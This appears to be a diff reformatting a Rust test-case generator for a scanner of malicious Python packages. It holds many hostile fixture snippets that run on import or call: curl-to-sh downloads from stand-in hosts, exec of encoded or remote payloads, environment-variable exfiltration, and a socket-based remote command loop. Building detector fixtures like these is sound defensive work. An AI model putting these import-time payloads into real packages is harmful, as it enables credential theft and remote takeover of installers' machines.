@@ -78,14 +78,22 @@ Loader().go()
 fn protocols(cases: &mut Cases) {
     cases
         .technique(45, "module-getattr", Call)
-        .case("encoded", init(r#"
+        .case(
+            "encoded",
+            init(
+                r#"
 import base64
 
 def __getattr__(name):
     exec(base64.b64decode("«beacon|b64»"), {})
     raise AttributeError(name)
-"#))
-        .case("shell", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "shell",
+            init(
+                r#"
 import os as _os
 _seen = set()
 def __getattr__(name):
@@ -93,8 +101,13 @@ def __getattr__(name):
         _seen.add(name)
         _os.system("curl -s http://192.0.2.8/ga | sh")
     return None
-"#))
-        .case("module-class", module(r#"
+"#,
+            ),
+        )
+        .case(
+            "module-class",
+            module(
+                r#"
 import sys, types
 class Lazy(types.ModuleType):
     def __getattribute__(self, name):
@@ -103,10 +116,15 @@ class Lazy(types.ModuleType):
             exec(u.urlopen("http://stage.example.invalid/lazy").read())
         return super().__getattribute__(name)
 sys.modules[__name__].__class__ = Lazy
-"#));
+"#,
+            ),
+        );
     cases
         .technique(46, "metaclass", Import)
-        .case("new", init(r#"
+        .case(
+            "new",
+            init(
+                r#"
 class Registry(type):
     def __new__(mcls, name, bases, space):
         import os
@@ -115,8 +133,13 @@ class Registry(type):
 
 class Plugin(metaclass=Registry):
     pass
-"#))
-        .case("prepare", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "prepare",
+            init(
+                r#"
 import marshal
 class M(type):
     @classmethod
@@ -124,15 +147,25 @@ class M(type):
         exec(marshal.loads(«code-fetch|lit»))
         return {}
 class Base(metaclass=M): x = 1
-"#))
-        .case("type-call", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "type-call",
+            init(
+                r#"
 import base64
 T = type("T", (type,), {"__init__": lambda cls, *a: exec(base64.b64decode("«steal|b64»"))})
 T("Settings", (), {})
-"#));
+"#,
+            ),
+        );
     cases
         .technique(47, "init-subclass", Import)
-        .case("encoded", init(r#"
+        .case(
+            "encoded",
+            init(
+                r#"
 import base64
 class Base:
     def __init_subclass__(cls, code=b"", **kw):
@@ -141,18 +174,28 @@ class Base:
 
 class Theme(Base, code="«fetch|b64»"):
     pass
-"#))
-        .case("shell", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "shell",
+            init(
+                r#"
 import subprocess
 class Model:
     def __init_subclass__(cls):
         subprocess.Popen(cls.command, shell=True)
 class User(Model):
     command = "curl -s http://stage.example.invalid/u | sh"
-"#));
+"#,
+            ),
+        );
     cases
         .technique(48, "descriptor", Import)
-        .case("get", init(r#"
+        .case(
+            "get",
+            init(
+                r#"
 import codecs
 class Lazy:
     def __get__(self, obj, owner):
@@ -160,29 +203,44 @@ class Lazy:
 class Settings:
     level = Lazy()
 Settings.level
-"#))
-        .case("set-name", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "set-name",
+            init(
+                r#"
 class Field:
     def __set_name__(self, owner, name):
         import os
         os.popen("curl http://192.0.2.8/%s | sh" % name)
 class Row:
     id = Field()
-"#))
-        .case("property", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "property",
+            init(
+                r#"
 import zlib, base64
 class Config:
     @property
     def ready(self):
         return eval(compile(zlib.decompress(base64.b64decode("«fetch|zlib|b64»")), "c", "exec"))
 _ = Config().ready
-"#));
+"#,
+            ),
+        );
 }
 
 fn threads(cases: &mut Cases) {
     cases
         .technique(49, "thread-at-import", Import)
-        .case("thread", init(r#"
+        .case(
+            "thread",
+            init(
+                r#"
 import threading, urllib.request
 
 def _work():
@@ -190,26 +248,46 @@ def _work():
         exec(urllib.request.urlopen("http://192.0.2.8/task").read())
 
 threading.Thread(target=_work, daemon=True).start()
-"#))
-        .case("timer", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "timer",
+            init(
+                r#"
 from threading import Timer
 import os
 Timer(30.0, os.system, args=("curl http://stage.example.invalid/t | sh",)).start()
-"#))
-        .case("process", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "process",
+            init(
+                r#"
 import multiprocessing as mp
 def job():
     import os, json, urllib.request as u
     u.urlopen("https://collect.example.invalid/p", json.dumps({**os.environ}).encode())
 mp.Process(target=job).start()
-"#))
-        .case("executor", module(r#"
+"#,
+            ),
+        )
+        .case(
+            "executor",
+            module(
+                r#"
 from concurrent.futures import ThreadPoolExecutor
 import base64
 _pool = ThreadPoolExecutor(1)
 _pool.submit(exec, base64.b64decode("«steal|b64»"), {})
-"#))
-        .case("thread-subclass", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "thread-subclass",
+            init(
+                r#"
 import threading, socket, subprocess
 
 class Keeper(threading.Thread):
@@ -219,8 +297,13 @@ class Keeper(threading.Thread):
             s.send(subprocess.getoutput(s.recv(1024).decode()).encode())
 
 Keeper(daemon=True).start()
-"#))
-        .case("asyncio", init(r#"
+"#,
+            ),
+        )
+        .case(
+            "asyncio",
+            init(
+                r#"
 import asyncio, threading
 async def _poll():
     import aiohttp
@@ -228,17 +311,31 @@ async def _poll():
         async with session.get("http://stage.example.invalid/aio") as answer:
             exec(await answer.text())
 threading.Thread(target=lambda: asyncio.run(_poll())).start()
-"#));
+"#,
+            ),
+        );
 }
 
 fn scripts(cases: &mut Cases) {
     cases
         .technique(50, "console-script", Call)
-        .case("main-module", wheel().file("«pkg»/__main__.py", r#"
+        .case(
+            "main-module",
+            wheel().file(
+                "«pkg»/__main__.py",
+                r#"
 import base64
 exec(base64.b64decode("«steal|b64»"))
-"#))
-        .case("entry-point", wheel().entry_points("[console_scripts]\n«name» = «pkg».cli:main\n").file("«pkg»/cli.py", r#"
+"#,
+            ),
+        )
+        .case(
+            "entry-point",
+            wheel()
+                .entry_points("[console_scripts]\n«name» = «pkg».cli:main\n")
+                .file(
+                    "«pkg»/cli.py",
+                    r#"
 import argparse
 import os
 import urllib.request
@@ -250,12 +347,20 @@ def main():
     parser.parse_args()
     body = repr(dict(os.environ)).encode()
     urllib.request.urlopen(urllib.request.Request("https://collect.example.invalid/cli", data=body))
-"#))
-        .case("script-file", wheel().file("«pkg»-«version».data/scripts/«name»", r#"
+"#,
+                ),
+        )
+        .case(
+            "script-file",
+            wheel().file(
+                "«pkg»-«version».data/scripts/«name»",
+                r#"
 #!python
 import os
 os.system("curl -s http://192.0.2.8/script | sh")
 from «pkg» import shorten
 print(shorten("ready"))
-"#));
+"#,
+            ),
+        );
 }
